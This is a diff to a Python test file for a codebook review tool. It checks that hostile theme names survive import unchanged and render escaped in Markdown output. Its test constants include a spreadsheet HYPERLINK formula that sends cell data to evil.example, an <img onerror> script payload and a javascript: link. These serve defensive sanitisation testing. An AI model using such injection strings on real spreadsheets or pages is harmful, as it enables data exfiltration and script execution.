@@ -51,6 +51,9 @@ HOSTILE = {
 CONTROL = "I felt\x0cstuck\x0band then\x1b[31m lost with my supervisor in the session."
 CONTROL_CLEAN = "I felt stuck and then[31m lost with my supervisor in the session."
 NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Support")'   # a judge's theme name
+#: a judge's name that Markdown would render as HTML, emphasis and a link
+MARKUP = "<img src=x onerror=alert(1)> *loud* [x](javascript:alert(1))"
+MARKUP_SHOWN = r"&lt;img src=x onerror=alert(1)&gt; \*loud\* \[x\](javascript:alert(1))"
 TRIGGER = re.compile(r"[=+\-@\t\r]")
 NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
 
@@ -344,9 +347,15 @@ def test_review_round_trip_keeps_hostile_names_exact(run_copy, capsys, tmp_path)
     assert row0[header.index("new name")].data_type == "s"
     other = int(target)
     enter(consensus, "themes", other, decision="rename", new_name="+1+1 support")
+    third = next(int(t) for t in items.themes["theme_id"] if int(t) not in (0, other))
+    enter(consensus, "themes", third, decision="rename", new_name=MARKUP)
     assert main(["review", "import", str(run_folder), str(consensus), "--consensus",
                  "--by", "ana"]) == 0
     assert main(["review", "apply", str(run_folder)]) == 0
+    # the Markdown files show a name as text: no raw HTML, no emphasis, no link
+    for md in ("codebook.md", "cqr_table.md"):
+        text = (run_folder / "review" / md).read_text(encoding="utf-8")
+        assert MARKUP_SHOWN in text and "<img" not in text and "[x](java" not in text, md
     cb = yaml.safe_load((run_folder / "review" / "codebook.yaml").read_text())
     names = {c["name"] for d in cb["domains"] for c in d["categories"]}
     assert {NAME, "+1+1 support"} <= names
